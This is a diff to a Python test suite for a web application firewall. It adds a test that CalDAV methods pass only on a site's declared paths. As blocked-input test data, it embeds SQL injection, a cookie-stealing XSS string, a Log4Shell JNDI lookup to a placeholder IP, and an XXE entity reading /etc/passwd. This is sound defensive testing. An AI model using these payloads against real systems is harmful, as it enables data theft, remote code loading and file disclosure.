@@ -1,5 +1,5 @@
-"""A site's own declared fields and body types (waf.filter_fields, waf.content_types), for a service of the
-site's own that no CMS package describes: rendered behind the site's guard, and on the real tier the declared
+"""A site's own declared fields, body types and methods (waf.filter_fields, waf.content_types, waf.methods), for a
+service of the site's own that no CMS package describes: rendered behind the site's guard, and on the real tier the declared
 values pass on the declared paths while the same attacks are refused.
 
 The factory's sites d-<profile> declare ``where`` on /gis/query as a filter-sql field and
@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import json
 import urllib.parse
+from xml.sax.saxutils import escape as xml_escape
 
 import pytest
 
@@ -121,6 +122,49 @@ def test_a_declared_text_body_type_is_read_whole(tier: Tier, profile: str) -> No
     assert _raw(tier.port, host, "/api/other/inbox/", INVITE, CALENDAR_TYPE) == 403
     assert _raw(tier.port, profile_host(profile), "/caldav/zhangwei/inbox/", INVITE, CALENDAR_TYPE) == 403
     assert _raw(tier.port, host, "/caldav/zhangwei/inbox/", INVITE, CALENDAR_TYPE + "; x=1") == 403
+
+# A CalDAV client's discovery and sync (RFC 4791: PROPFIND with Depth, a calendar-query REPORT, PUT of an event,
+# DELETE), as Thunderbird and DAVx5 send them to the d-<profile> sites' /caldav/ (factory.SITE_DAV_METHODS).
+PROPFIND = ('<?xml version="1.0" encoding="utf-8"?>\n<d:propfind xmlns:d="DAV:" xmlns:cs="http://calendarserver.org/ns/">'
+            "<d:prop><d:displayname/><d:resourcetype/><cs:getctag/></d:prop></d:propfind>")
+REPORT = ('<?xml version="1.0" encoding="utf-8"?>\n<c:calendar-query xmlns:d="DAV:" '
+          'xmlns:c="urn:ietf:params:xml:ns:caldav"><d:prop><d:getetag/></d:prop><c:filter>'
+          '<c:comp-filter name="VCALENDAR"><c:comp-filter name="VEVENT">'
+          '<c:time-range start="20270301T000000Z" end="20270401T000000Z"/></c:comp-filter></c:comp-filter>'
+          "</c:filter></c:calendar-query>")
+XML_TYPE = "application/xml; charset=utf-8"
+
+
+def _dav(port: int, host: str, method: str, path: str, body: str | None = None, ctype: str = XML_TYPE) -> int:
+    headers = {**attacks.BASE, "Depth": "1"} | ({"Content-Type": ctype} if body is not None else {})
+    return send(port, host, as_citizens([Req(method, path, headers, body)])[0], source=GATEWAY).status
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("profile", BLOCKING)
+def test_declared_methods_are_answered_on_their_paths_only(tier: Tier, profile: str) -> None:
+    """PROPFIND, REPORT, PUT and DELETE on the site's own CalDAV paths pass (no profile lists them); their bodies
+    are read like a POST's, and the methods are refused on any other path, on a site that declares nothing, in a
+    path that only looks like the declared one, and any method the site did not declare (ADR 0036)."""
+    host, plain, cal = declared_host(profile), profile_host(profile), "/caldav/zhangwei/calendar/"
+    assert _dav(tier.port, host, "PROPFIND", cal, PROPFIND) == 200
+    assert _dav(tier.port, host, "REPORT", cal, REPORT) == 200
+    assert _dav(tier.port, host, "PUT", cal + "5573296d.ics", INVITE, CALENDAR_TYPE) == 200
+    assert _dav(tier.port, host, "DELETE", cal + "5573296d.ics") == 200
+    for attack in ("' union select password from sys_user--", "<script>alert(document.cookie)</script>",
+                   "${jndi:ldap://203.0.113.5:1389/a}"):
+        body = PROPFIND.replace("<d:displayname/>", f"<d:displayname>{xml_escape(attack)}</d:displayname>")
+        assert _dav(tier.port, host, "PROPFIND", cal, body) == 403, attack
+        assert _dav(tier.port, host, "PUT", cal + "x.ics", INVITE.replace("分会场请提前调试设备", attack),
+                    CALENDAR_TYPE) == 403, attack
+    xxe = ('<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+           '<d:propfind xmlns:d="DAV:"><d:prop><d:displayname>&x;</d:displayname></d:prop></d:propfind>')
+    assert _dav(tier.port, host, "PROPFIND", cal, xxe) == 403
+    assert _dav(tier.port, host, "PROPFIND", "/api/other/", PROPFIND) == 403
+    assert _dav(tier.port, plain, "PROPFIND", cal, PROPFIND) == 403
+    assert _dav(tier.port, host, "MOVE", cal + "5573296d.ics") == 403  # not declared
+    assert _dav(tier.port, host, "TRACE", cal) in (403, 405)  # never declarable (nginx itself answers 405)
+    assert [p for p in factory.disguised("/caldav/") if _dav(tier.port, host, "PROPFIND", p, PROPFIND) != 403] == []
 
 # Declared on the d-<profile> sites (factory.SITE_RULES, SITE_FORMULA): (path, JSON key, values, injections).
 JSON_FIELDS = {"boolean-expression": ("/rules/save", "expr", BOOLEAN, BOOLEAN_INJECTIONS),
